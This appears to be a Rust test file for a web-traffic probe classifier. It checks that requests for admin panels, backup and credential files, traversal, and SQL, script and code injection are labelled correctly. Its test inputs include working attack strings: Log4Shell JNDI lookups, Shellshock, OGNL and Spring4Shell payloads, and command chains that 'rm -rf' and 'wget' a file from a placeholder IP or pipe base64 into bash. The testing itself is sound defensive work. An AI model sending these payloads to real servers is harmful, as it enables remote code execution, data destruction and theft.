use super::words::{DUMP_NAMES, SOURCE_EXTENSIONS};
use super::*;

/// The one-pass lookups (admin prefixes by set, sensitive paths by automaton) answer as a
/// scan of every word would, around every word's edges.
#[test]
fn list_lookups_agree_with_a_scan_of_every_word() {
    let admin: Vec<String> = words(ADMIN)
        .into_iter()
        .map(|w| w.trim_end_matches('/').to_owned())
        .filter(|w| !w.is_empty())
        .collect();
    let paths: Vec<String> = words(SENSITIVE)
        .into_iter()
        .filter(|w| w.contains('/'))
        .map(|w| format!("/{w}"))
        .collect();
    let scan_admin = |p: &str| {
        admin.iter().any(|w| {
            p.starts_with(w.as_str())
                && matches!(p.as_bytes().get(w.len()), None | Some(b'/' | b'.' | b'?'))
        })
    };
    let scan_paths = |p: &str| {
        paths
            .iter()
            .any(|w| p.ends_with(w.as_str()) || p.contains(&format!("{w}/")))
    };
    let mut cases = vec!["/".to_owned(), "/api/v1/orders/7".to_owned(), String::new()];
    for w in admin.iter().chain(&paths) {
        for (pre, post) in [
            ("", ""),
            ("", "/"),
            ("", ".php"),
            ("", "?a=1"),
            ("", "x"),
            ("", "/x"),
            ("/app", ""),
            ("/app", "/"),
            ("/app", "x"),
            ("/app", "/x.y"),
        ] {
            cases.push(format!("{pre}{w}{post}"));
        }
        cases.push(w[..w.len() - 1].to_owned());
    }
    let l = lists();
    for p in &cases {
        assert_eq!(l.is_admin(p), scan_admin(p), "admin prefix of {p:?}");
        assert_eq!(
            l.in_sensitive_path(p),
            scan_paths(p),
            "sensitive path in {p:?}"
        );
    }
}

/// The one-pass shortcut for ordinary paths answers as the full classification does: on
/// every list word inside ordinary paths, upper-cased, percent-encoded, as a prefix or a
/// last segment, with and without a query or a scanner's user agent.
#[test]
fn the_ordinary_path_shortcut_changes_no_answer() {
    let l = lists();
    let mut paths = vec![
        "/".to_owned(),
        "/api/v1/orders/17".to_owned(),
        "/static/app.js".to_owned(),
        "/api/v1/search%20x".to_owned(),
        "/a+b".to_owned(),
    ];
    let every_word = (words(ADMIN).into_iter())
        .chain(words(SENSITIVE))
        .chain(words(BACKDOORS))
        .chain(words(TRAVERSAL))
        .chain(words(SQLI))
        .chain(words(XSS))
        .chain(MORE_TRAVERSAL.iter().map(|w| w.to_string()))
        .chain(DECODED_SQLI.iter().map(|w| w.to_string()))
        .chain(CODE_INJECTION.iter().map(|w| w.to_string()));
    for w in every_word {
        let encoded: String = w.bytes().map(|b| format!("%{b:02X}")).collect();
        for word in [w.clone(), w.to_ascii_uppercase(), encoded] {
            let word = word.trim_start_matches('/');
            for (pre, post) in [("/", ""), ("/app/", "/x"), ("/app/x", ".json")] {
                paths.push(format!("{pre}{word}{post}"));
            }
        }
    }
    for path in &paths {
        for query in [None, Some("page=2"), Some("q=%27%20or%201%3D1")] {
            for ua in [None, Some("Mozilla/5.0"), Some("sqlmap/1.8")] {
                assert_eq!(
                    classify(l, path, query, ua, Shortcut::Taken),
                    classify(l, path, query, ua, Shortcut::Skipped),
                    "{path} {query:?} {ua:?}"
                );
            }
        }
    }
    assert!(!l.any_path_word.is_match("/api/v1/orders/17"));
}

#[test]
fn ordinary_api_and_browser_traffic_is_not_a_probe() {
    for (p, q) in [
        ("/api/v1/products/42", None),
        ("/api/v1/search", Some("q=shoes&page=2")),
        ("/api/v1/login", None),
        ("/api/v1/admin-tools/settings", None),
        ("/static/app.css", None),
        ("/health", None),
        ("/api/v1/orders/500001", None),
    ] {
        assert_eq!(
            probe_class(p, q, Some("Mozilla/5.0 Chrome/131")),
            None,
            "{p}"
        );
    }
}

/// One pass finds every injection class; the reported one follows the fixed priority
/// (traversal, then SQL, then script), wherever in the request each payload is.
#[test]
fn injection_classes_keep_their_priority() {
    let q = "q=<script>x</script>&id=1 union select information_schema.tables";
    assert_eq!(
        probe_class("/a/../../etc", Some(q), None),
        Some("path-traversal")
    );
    assert_eq!(
        probe_class("/api/search", Some(q), None),
        Some("sql-injection")
    );
    assert_eq!(
        probe_class(
            "/api/%3Csvg%20onload=1%3E",
            Some("information_schema.tables"),
            None
        ),
        Some("sql-injection")
    );
    assert_eq!(
        probe_class("/api/%3Csvg%20onload=1%3E", None, None),
        Some("script-injection")
    );
}

/// Java's runtime classes are code when called, not when a stack trace or a search names them.
#[test]
fn java_runtime_is_code_when_called_not_when_named() {
    for q in [
        "x=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D",
        "x=java.lang.Runtime.getRuntime().exec(%22id%22)",
        "x=new+java.lang.ProcessBuilder(%7B%27id%27%7D).start()",
    ] {
        assert_eq!(
            probe_class("/", Some(q), None),
            Some("code-injection"),
            "{q}"
        );
    }
    for q in [
        "q=java.lang.RuntimeException:+Unable+to+start+activity",
        "stack=at+java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
    ] {
        assert_eq!(probe_class("/", Some(q), None), None, "{q}");
    }
}

/// Backup copies of server-side code and configuration, as scanners hunt them (heldout17's
/// `wp-config.php.bkp/.copy/.old` run, answered 429), are sensitive files; the suffixes on
/// other files, user directories and words are not. The one-pass shortcut agrees.
#[test]
fn backup_copies_of_source_files_are_sensitive() {
    for path in [
        "/wp-config.php.bkp",
        "/wp-config.php.copy",
        "/wp-config.php.old",
        "/wordpress/wp-config.php~",
        "/.wp-config.php.swp",
        "/app/config/settings.py.orig",
        "/CONFIG.INC.PHP.SAVE",
        "/web.config.backup",
        "/%77p-config.php%2eold",
        "/appsettings.json.bak",
        "/WEB-INF/web.xml.old",
        "/index.php.1",
        "/wp-config.php_orig",
        "/wp-config.php-original",
        "/wp-config.php.disabled",
        "/wp-config.php.new",
        "/wp-config.bak",
        "/wp-config_good",
        "/Configuration.Old",
        "/wp-config-good",
        "/backup.tar.xz",
        "/www.zip",
        "/shop/DB.SQL.GZ",
        "/%62ackup.7z",
    ] {
        assert_eq!(
            probe_class(path, None, None),
            Some("sensitive-file"),
            "{path}"
        );
    }
    for path in [
        "/~alice/",
        "/~alice/index.html",
        "/blog/old",
        "/downloads/app.tmp",
        "/api/v1/copy",
        "/php.old",
        "/docs/readme.txt.old",
        "/img/logo.png~",
        "/index.php",
        "/api/v1.1/users",
        "/js/jquery-3.1.min.js",
        "/notes/release.1",
        "/blog/page-1",
        "/whats-new",
        "/news/my-old-car",
        "/settings",
        "/api/config-1",
        "/wiki/Database_backup",
        "/docs/configuration-backup",
        "/account/settings-new",
        "/api/v1/config-new",
        "/account/config_save",
        "/downloads/gatewatch-1.2.tar.gz",
        "/site.webmanifest",
        "/data.json",
        "/backup-guide.html",
        "/download/mod/data.zip",
        "/acme/app/archive/refs/heads/test.tar.gz",
        "/uploads/2024/03/1.zip",
        "/docs/html.zip",
    ] {
        assert_eq!(probe_class(path, None, None), None, "{path}");
        assert!(!backup_copy(path), "{path}");
    }
    // One definition: what `sensitive-file-exposed` calls a leaked backup (`backup_copy`) is
    // what a scanner's request for it is here, for every extension and suffix, every dump.
    let copies = SOURCE_EXTENSIONS.iter().flat_map(|ext| {
        (BACKUP_SUFFIXES.iter().map(|s| format!(".{s}")))
            .chain(["~".to_owned()])
            .map(move |suffix| format!("/site/name.{ext}{suffix}"))
    });
    let dumps = DUMP_NAMES.iter().flat_map(|name| {
        ARCHIVE_EXTENSIONS
            .iter()
            .map(move |ext| format!("/site/{name}.{ext}"))
    });
    for path in copies.chain(dumps) {
        assert!(backup_copy(&path), "{path}");
        assert_eq!(
            probe_class(&path, None, None),
            Some("sensitive-file"),
            "{path}"
        );
    }
    let l = lists();
    for path in [
        "/wp-config.php.old",
        "/a/settings.py~",
        "/x.jsp.tmp",
        "/~bob",
        "/wp-config.php_orig",
        "/wp-config-good",
    ] {
        assert_eq!(
            classify(l, path, None, None, Shortcut::Taken),
            classify(l, path, None, None, Shortcut::Skipped),
            "{path}"
        );
    }
}

/// A repository's CI and IDE metadata deployed with the site is a sensitive file wherever it
/// sits; words that merely contain the names are not.
#[test]
fn repository_metadata_is_sensitive() {
    for path in [
        "/.github/workflows/deploy.yml",
        "/app/.github/workflows/test.yaml",
        "/.gitlab-ci.yml",
        "/.circleci/config.yml",
        "/.idea/workspace.xml",
        "/.travis.yml",
        "/.DS_Store",
        "/uploads/.DS_Store",
        "/.vscode/settings.json",
    ] {
        assert_eq!(
            probe_class(path, None, None),
            Some("sensitive-file"),
            "{path}"
        );
    }
    for path in [
        "/github/workflows",
        "/blog/idea",
        "/docs/circleci-setup",
        "/x.github.io/",
        "/ds_store",
        "/blog/vscode-tips",
    ] {
        assert_eq!(probe_class(path, None, None), None, "{path}");
    }
}

/// AI coding assistants' project files and settings are sensitive files; pages about the
/// assistants are not.
#[test]
fn ai_assistants_files_are_sensitive() {
    let class = |path: &str| probe_class(path, None, None);
    let sensitive = [
        "/.cursorrules",
        "/.windsurfrules",
        "/app/.clinerules",
        "/.github/copilot-instructions.md",
        "/.cursor/mcp.json",
        "/.claude/settings.json",
        "/.claude.json",
        "/.mcp.json",
        "/claude_desktop_config.json",
        "/.aider.chat.history.md",
        "/.continue/config.json",
    ];
    let pages = [
        "/blog/claude-md-tips",
        "/docs/cursor",
        "/api/v1/items",
        "/gemini",
        "/mcp",
        "/claude",
        // Documentation pages and their `.md` copies for AI agents.
        "/docs/providers/gemini.md",
        "/CLAUDE.md",
        "/AGENTS.md",
        "/docs/copilot-instructions.md",
    ];
    let wrong: Vec<_> = (sensitive
        .iter()
        .filter(|p| class(p) != Some("sensitive-file")))
    .chain(pages.iter().filter(|p| class(p).is_some()))
    .collect();
    assert!(wrong.is_empty(), "{wrong:?}");
}

/// Editors' (S)FTP upload settings hold the server's password: sensitive at the root or under
/// a folder; a page merely named for SFTP is not.
#[test]
fn editor_upload_settings_are_sensitive() {
    for path in [
        "/sftp-config.json",
        "/site/sftp-config.json",
        "/.ftpconfig",
        "/.vscode/sftp.json",
        "/.vscode/ftp-sync.json",
        "/.remote-sync.json",
    ] {
        assert_eq!(
            probe_class(path, None, None),
            Some("sensitive-file"),
            "{path}"
        );
    }
    for path in ["/docs/sftp-config", "/help/sftp.html"] {
        assert_eq!(probe_class(path, None, None), None, "{path}");
    }
}

#[test]
fn probes_are_classified() {
    assert_eq!(
        probe_class("/wp-admin/", None, None),
        Some("admin-interface")
    );
    assert_eq!(
        probe_class("/backup.sql.gz", None, None),
        Some("sensitive-file")
    );
    assert_eq!(probe_class("/1337.php", None, None), Some("backdoor"));
    // Runs of slashes are read as one; dotenv files under any framework's name.
    assert_eq!(
        probe_class("//phpMyAdmin/index.php", None, None),
        Some("admin-interface")
    );
    // A release's folder as its archive unpacks or as admins rename it (heldout140: 61 of them in
    // 30 seconds; heldout142).
    for path in [
        "/phpMyAdmin-2.6.0-alpha2/",
        "/phpmyadmin-4.9.0-all-languages/index.php",
        "/phpmyadmin4.8.5/index.php",
        "/phpMyAdmin_4.9.0/",
    ] {
        assert_eq!(
            probe_class(path, None, None),
            Some("admin-interface"),
            "{path}"
        );
    }
    for path in [
        "/administration-guide",
        "/admin-tools/",
        "/manager-notes.html",
        "/administrator2fa/",
        "/manager-2/",
        "/admin-2fa/",
        "/admin-2024-annual-report.pdf",
        "/phpmyadmin-2.png",
    ] {
        assert_eq!(probe_class(path, None, None), None, "{path}");
    }
    for path in ["//web/.flaskenv", "/app/.env.production", "/.envrc"] {
        assert_eq!(
            probe_class(path, None, None),
            Some("sensitive-file"),
            "{path}"
        );
    }
    // Credential dotfiles the rule's `secret_probe_regex` names, in any segment.
    for path in [
        "/.npmrc",
        "/app/.netrc",
        "/.pgpass",
        "/.my.cnf",
        "/.hg/hgrc",
        "/.pypirc",
    ] {
        assert_eq!(
            probe_class(path, None, None),
            Some("sensitive-file"),
            "{path}"
        );
    }
    for path in [
        "/api/v1/environments/3",
        "/static/env.js",
        "/.well-known/x",
        "/docs/npmrc",
        "/files/x.npmrc",
    ] {
        assert_eq!(probe_class(path, None, None), None, "{path}");
    }
    assert_eq!(
        probe_class("/api/v1/search", Some("q=<script>alert(1)</script>"), None),
        Some("script-injection")
    );
    assert_eq!(
        probe_class(
            "/x",
            None,
            Some("Mozilla/5.0 (compatible; Nuclei - Open-source project)")
        ),
        Some("scanner-agent")
    );
    assert_eq!(percent_decode("%2e%2e%2F+x%zz"), "../ x%zz");
    for path in [
        "/tmui/login.jsp/..;/tmui/x.jsp",
        "/unauth/%252e%252e/php/x.php",
    ] {
        assert_eq!(
            probe_class(path, None, None),
            Some("path-traversal"),
            "{path}"
        );
    }
}

/// Payloads that try to run something, encoded as scanners send them, in the path, the
/// query or the user agent; and ordinary requests that merely share a word with them.
#[test]
fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
    let code = |path: &str, query: Option<&str>, ua: Option<&str>| {
        probe_class(path, query, ua) == Some("code-injection")
    };
    // OGNL in an encoded path, a Text4Shell lookup, Spring4Shell, a chained shell command.
    assert!(code(
        "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%7D/",
        None,
        None
    ));
    assert!(code(
        "/",
        Some("search=%24%7Bscript%3Ajavascript%3Ax%7D"),
        None
    ));
    assert!(code(
        "/path/",
        Some("class.module.classLoader.URLs%5B0%5D=0"),
        None
    ));
    assert!(code(
        "/setup.cgi",
        Some("todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/m"),
        None
    ));
    assert!(code(
        "/index.php",
        Some("login=$(echo${IFS}cHl0aG9u|base64${IFS}-d|bash)"),
        None
    ));
    // Log4Shell and Shellshock in the user agent, even from a scanner.
    assert!(code("/", None, Some("${jndi:${lower:l}dap://x.example/a}")));
    assert!(code(
        "/cgi-bin/status",
        None,
        Some("() { :; }; /bin/bash -c 'id'")
    ));
    assert!(code("/", None, Some("Nuclei ${jndi:ldap://x.example/a}")));
    // A query that is a command line, letter by letter encoded (fail2ban's test line).
    assert!(code("/shell", Some("%75%6E%61%6D%65%20%2D%61"), None));
    assert!(code(
        "/shell",
        Some("cd+/tmp;wget+http://198.51.100.1/m"),
        None
    ));
    // A bare command sent to a path named for a shell: Mirai's `busybox` check of a DVR's
    // backdoor (heldout116, heldout121), with its marker word too.
    assert!(code("/shell", Some("busybox"), None));
    assert!(code("/SHELL", Some("busybox%20MIRAI"), None));
    assert!(code("/shell", Some("/bin/busybox+ECCHI"), None));
    // A command parameter holding a command line, or a reconnaissance command, sent to a
    // script: a device CGI, a web shell dropped in uploads.
    assert!(code(
        "/setup.cgi",
        Some("next_file=netgear.cfg&todo=syscmd&cmd=cat+/www/.htpasswd&curpath=/"),
        None
    ));
    assert!(code(
        "/wp-content/uploads/2024/05/x.PHP",
        Some("cmd=id"),
        None
    ));
    assert!(code("/cmd.jsp;jsessionid=1A", Some("cmd=whoami"), None));
    // Ordinary requests, command APIs among them (the same parameters, no script).
    for (path, query, ua) in [
        ("/api/v1/search", Some("q=curl+tutorial&sort=new"), None),
        (
            "/api/v1/namespaces/default/pods/web-0/exec",
            Some("command=sh&command=-c&command=uname+-a&stdout=true"),
            None,
        ),
        ("/explain", Some("cmd=ls+-la"), None),
        ("/api/41/project/ops/run/command", Some("exec=ps+aux"), None),
        ("/php/connector.php", Some("cmd=ls&target=l1_Lw"), None),
        ("/search.php", Some("q=uname+-a"), None),
        ("/docs/shell", Some("topic=rm%20command"), None),
        // A bare command word elsewhere: a wiki page, a manual page (the review's cases).
        ("/wiki", Some("BusyBox"), None),
        ("/cgi-bin/man/man2html", Some("busybox"), None),
        ("/shellfish", Some("busybox"), None),
        ("/api/v1/templates", Some("body=Hello+%24%7Bname%7D"), None),
        (
            "/",
            None,
            Some("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
        ),
    ] {
        assert_ne!(
            probe_class(path, query, ua),
            Some("code-injection"),
            "{path} {query:?}"
        );
    }
}

/// Each answer of `decide` names its class in `CLASSES`.
#[test]
fn class_numbers_name_their_classes() {
    let named = [
        (class::CODE_INJECTION, "code-injection"),
        (class::SCANNER_AGENT, "scanner-agent"),
        (class::PATH_TRAVERSAL, "path-traversal"),
        (class::SQL_INJECTION, "sql-injection"),
        (class::SCRIPT_INJECTION, "script-injection"),
        (class::BACKDOOR, "backdoor"),
        (class::SENSITIVE_FILE, "sensitive-file"),
        (class::ADMIN_INTERFACE, "admin-interface"),
    ];
    for (n, name) in named {
        assert_eq!(class_name(n), Some(name));
    }
    assert_eq!(class_name(0), None);
    assert_eq!(class_name(9), None);
}

/// `self_referred` answers what `admin-console-probing` wrote in SQL before it existed:
/// `referer = concat(split_part(referer, '/', 1), '//', split_part(referer, '/', 3), target)`
/// (`split_part` answering "" past the last part), on ordinary and odd inputs alike.
#[test]
fn self_referred_is_the_split_part_test_it_replaced() {
    fn split_part(s: &str, n: usize) -> &str {
        s.split('/').nth(n - 1).unwrap_or("")
    }
    let sql = |r: &str, t: &str| r == format!("{}//{}{}", split_part(r, 1), split_part(r, 3), t);
    let referers = [
        "http://blog.example/wp-login.php",
        "https://203.0.113.5/user?x=1",
        "http://blog.example/a/wp-login.php",
        "blog.example/wp-login.php",
        "http:///x",
        "//host/x",
        "http://host",
        "http://hostlogin.cgi",
        "http://h?x",
        "a/b//h/x",
        "http://blog.example//wp-login.php",
        "",
        "-",
    ];
    let targets = [
        "/wp-login.php",
        "/user?x=1",
        "/x",
        "",
        "login.cgi",
        "?x",
        "/",
        "//wp-login.php",
    ];
    for r in referers {
        for t in targets {
            assert_eq!(self_referred(r, t), sql(r, t), "{r:?} {t:?}");
        }
    }
}
